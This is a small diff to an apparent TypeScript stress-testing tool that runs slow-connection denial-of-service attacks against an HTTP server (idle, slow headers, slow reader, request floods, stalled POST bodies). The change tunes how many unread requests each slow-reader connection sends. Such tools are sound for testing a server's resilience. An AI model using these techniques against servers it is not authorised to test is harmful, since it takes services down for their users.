@@ -25,6 +25,9 @@ const DROP_MS = 200;
 /** How many requests one connection of few sends at once, and how often; of thousands it is one each, as more could not be read here at all. */
 const OFTEN = { requests: 8, everyMs: 1_000 };
 const SELDOM = { requests: 1, everyMs: 2_000 };
+/** How many requests of one connection get answers that nobody takes. Thirty of thousands would be a flood, not a wait. */
+const UNTAKEN = 30;
+const UNTAKEN_OF_MANY = 6;
 const MANY = 1_000;
 
 /** Attacks until the process ends; tells on stdout when all connections have been opened, or refused, once. */
@@ -58,7 +61,7 @@ function begin({ way, connections, path, writesTo, headers }: Attack, socket: So
   const post = `${head(`POST ${writesTo}`, 'Content-Type: application/json', 'Content-Length: 1000')}\r\n{`;
   if (way === 'idle') socket.write(whole);
   else if (way === 'slow headers') socket.write(head(`GET ${path}`));
-  else if (way === 'slow reader') socket.pause().write(whole.repeat(30));
+  else if (way === 'slow reader') socket.pause().write(whole.repeat(connections > MANY ? UNTAKEN_OF_MANY : UNTAKEN));
   else if (way === 'many at once') askAgain(socket, whole, connections > MANY ? SELDOM : OFTEN);
   else socket.write(post);
   if (way !== 'slow reader') socket.resume();
